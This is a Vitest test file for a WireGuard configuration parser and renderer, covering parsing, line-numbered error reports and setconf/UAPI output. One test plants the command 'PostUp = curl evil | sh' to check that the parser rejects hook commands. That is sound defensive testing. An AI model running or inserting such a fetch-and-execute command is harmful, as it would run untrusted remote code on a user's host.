import { describe, expect, it } from 'vitest';
import { renderUapiSet } from '../../../src/daemon/vpn/wg-uapi.js';
import {
  parseWireguardConfig,
  renderSetconf,
  WireguardConfigError,
} from '../../../src/daemon/vpn/wireguard-config.js';

const PRIV = 'yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=';
const PUB = 'xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=';
const PSK = 'FpCyhws9cxwWoV4xELtfJvjJN+zQVRPISllRWgeopVE=';

const GOOD = `# example
[Interface]
PrivateKey = ${PRIV}
Address = 10.2.0.2/32, fd00:2::2/128
DNS = 10.2.0.1, corp.example
MTU = 1380
ListenPort = 51000

[Peer]
PublicKey = ${PUB}
PresharedKey = ${PSK}
Endpoint = vpn.example.com:51820
AllowedIPs = 0.0.0.0/0, ::/0
PersistentKeepalive = 25

[Peer]
PublicKey = ${PUB}
Endpoint = [2001:db8::1]:443
AllowedIPs = 10.9.0.0/16
`;

function problems(text: string): string[] {
  try {
    parseWireguardConfig(text);
  } catch (e) {
    if (e instanceof WireguardConfigError) return e.problems.map((p) => `${p.line}: ${p.message}`);
    throw e;
  }
  return [];
}

describe('parseWireguardConfig', () => {
  it('parses a full wg-quick config', () => {
    const c = parseWireguardConfig(GOOD);
    expect(c.privateKey).toBe(PRIV);
    expect(c.addresses).toEqual([
      { address: '10.2.0.2', prefix: 32, family: 4 },
      { address: 'fd00:2::2', prefix: 128, family: 6 },
    ]);
    expect(c.dns).toEqual(['10.2.0.1']);
    expect(c.searchDomains).toEqual(['corp.example']);
    expect(c.mtu).toBe(1380);
    expect(c.listenPort).toBe(51000);
    expect(c.peers).toHaveLength(2);
    expect(c.peers[0]).toEqual({
      publicKey: PUB,
      presharedKey: PSK,
      endpoint: { host: 'vpn.example.com', port: 51820 },
      allowedIps: [
        { address: '0.0.0.0', prefix: 0, family: 4 },
        { address: '::', prefix: 0, family: 6 },
      ],
      persistentKeepalive: 25,
    });
    expect(c.peers[1]?.endpoint).toEqual({ host: '2001:db8::1', port: 443 });
  });

  it('accepts keys in any case and CRLF line ends', () => {
    const c = parseWireguardConfig(GOOD.replace(/\n/g, '\r\n').replace('PrivateKey', 'privatekey'));
    expect(c.privateKey).toBe(PRIV);
  });

  it('rejects unknown keys and sections with line numbers', () => {
    const p = problems(
      GOOD.replace('MTU = 1380', 'Mtuu = 1380').replace('[Peer]\nPublicKey', '[Pier]\nPublicKey'),
    );
    expect(p).toContain("6: unknown key 'Mtuu' in [Interface]");
    expect(p.some((m) => m.startsWith('9: unknown section [Pier]'))).toBe(true);
  });

  it('refuses PostUp and friends, naming them', () => {
    const p = problems(GOOD.replace('MTU = 1380', 'PostUp = curl evil | sh'));
    expect(p).toEqual(['6: PostUp is not supported by vopono (it would run commands or change the host)']);
  });

  it('reports malformed values', () => {
    const bad = GOOD.replace(`PrivateKey = ${PRIV}`, 'PrivateKey = abc')
      .replace('Address = 10.2.0.2/32', 'Address = 10.2.0.300/32')
      .replace('Endpoint = vpn.example.com:51820', 'Endpoint = vpn.example.com')
      .replace('AllowedIPs = 10.9.0.0/16', 'AllowedIPs = 10.9.0.0/33')
      .replace('PersistentKeepalive = 25', 'PersistentKeepalive = soon');
    const p = problems(bad);
    expect(p).toEqual([
      '3: PrivateKey is not a base64 WireGuard key',
      "4: Address: '10.2.0.300' is not an IP address",
      "12: Endpoint: 'vpn.example.com' is not host:port",
      "14: PersistentKeepalive 'soon' is not a number of seconds",
      "19: AllowedIPs: '33' is not a prefix length for IPv4",
    ]);
  });

  it('needs an interface, a key, an address and a peer with a public key', () => {
    expect(problems('')).toEqual(['1: no [Interface] section']);
    expect(problems(`[Interface]\nAddress = 10.0.0.2/32\n[Peer]\nAllowedIPs = 0.0.0.0/0\n`)).toEqual([
      '1: [Interface] has no PrivateKey',
      '3: [Peer] has no PublicKey',
    ]);
    expect(problems(`[Interface]\nPrivateKey = ${PRIV}\nAddress = 10.0.0.2/32\n`)).toEqual([
      '4: no [Peer] section',
    ]);
  });

  it('rejects lines without =, keys outside sections, and duplicates', () => {
    expect(
      problems(
        `Address = 1.2.3.4\n[Interface]\nPrivateKey = ${PRIV}\nPrivateKey = ${PRIV}\nAddress 10.0.0.2\n`,
      ),
    ).toEqual([
      "1: 'Address' outside of an [Interface] or [Peer] section",
      '1: [Interface] has no Address',
      '4: PrivateKey given twice in this section',
      "5: 'Address 10.0.0.2' is not 'Key = Value'",
      '6: no [Peer] section',
    ]);
  });
});

describe('renderSetconf', () => {
  it('renders only what wg setconf accepts, with resolved endpoints', () => {
    const c = parseWireguardConfig(GOOD);
    const out = renderSetconf(c, ['192.0.2.7', '2001:db8::1']);
    expect(out).toBe(
      `[Interface]\nPrivateKey = ${PRIV}\nListenPort = 51000\n\n[Peer]\nPublicKey = ${PUB}\nPresharedKey = ${PSK}\nEndpoint = 192.0.2.7:51820\nAllowedIPs = 0.0.0.0/0, ::/0\nPersistentKeepalive = 25\n\n[Peer]\nPublicKey = ${PUB}\nEndpoint = [2001:db8::1]:443\nAllowedIPs = 10.9.0.0/16\n`,
    );
    expect(out).not.toMatch(/Address|DNS|MTU/);
  });
});

describe('renderUapiSet', () => {
  it('renders the UAPI set request with hex keys and replaced peers/allowed IPs', () => {
    const c = parseWireguardConfig(GOOD);
    const out = renderUapiSet(c, ['192.0.2.7', '2001:db8::1']);
    const hex = (b: string): string => Buffer.from(b, 'base64').toString('hex');
    expect(out).toBe(
      [
        'set=1',
        `private_key=${hex(PRIV)}`,
        'listen_port=51000',
        'replace_peers=true',
        `public_key=${hex(PUB)}`,
        `preshared_key=${hex(PSK)}`,
        'endpoint=192.0.2.7:51820',
        'persistent_keepalive_interval=25',
        'replace_allowed_ips=true',
        'allowed_ip=0.0.0.0/0',
        'allowed_ip=::/0',
        `public_key=${hex(PUB)}`,
        'endpoint=[2001:db8::1]:443',
        'persistent_keepalive_interval=0',
        'replace_allowed_ips=true',
        'allowed_ip=10.9.0.0/16',
      ].join('\n') + '\n\n',
    );
  });
});
